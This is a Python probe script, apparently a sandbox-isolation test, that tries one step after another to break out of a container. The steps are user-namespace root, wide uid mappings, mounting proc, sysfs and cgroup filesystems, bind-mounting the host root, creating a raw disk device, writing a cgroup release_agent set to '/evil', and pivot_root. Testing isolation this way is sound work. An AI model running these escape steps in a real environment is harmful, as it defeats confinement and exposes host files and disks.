# Tries to become root in a user namespace, and from there to mount, to make devices and to change the network.
# gvisor, microvm: denied or own
import ctypes
import os

from attempt import attempt, read, syscall, write

MOUNT = 165
uid = os.getuid()
attempt("namespaces", lambda: syscall(272, 0x10000000 | 0x00020000 | 0x40000000))
attempt("mapping", lambda: write("/proc/self/uid_map", f"0 {uid} 1"))
attempt("wide mapping", lambda: write("/proc/self/uid_map", "0 0 4294967295"))
for kind in (b"proc", b"sysfs", b"tmpfs", b"overlay", b"cgroup", b"cgroup2", b"devpts", b"mqueue", b"fuse", b"ext4"):
    os.makedirs("/tmp/m", exist_ok=True)
    if attempt(f"mount {kind.decode()}", lambda kind=kind: syscall(MOUNT, b"none", b"/tmp/m", kind, 0, 0)) is not None:
        attempt(f"seen in {kind.decode()}", lambda: os.listdir("/tmp/m"))
attempt("bind", lambda: syscall(MOUNT, b"/", b"/tmp/m", 0, 0x5000, 0))
attempt("file", lambda: read("/tmp/m" + os.environ["HOST_FILE"]))
attempt("disk", lambda: os.mknod("/tmp/m/disk", 0o060666, os.makedev(8, 0)))
attempt("release agent", lambda: write("/tmp/m/release_agent", "/evil"))
attempt("pivot", lambda: syscall(155, b"/tmp/m", ctypes.create_string_buffer(b"/tmp/m")))
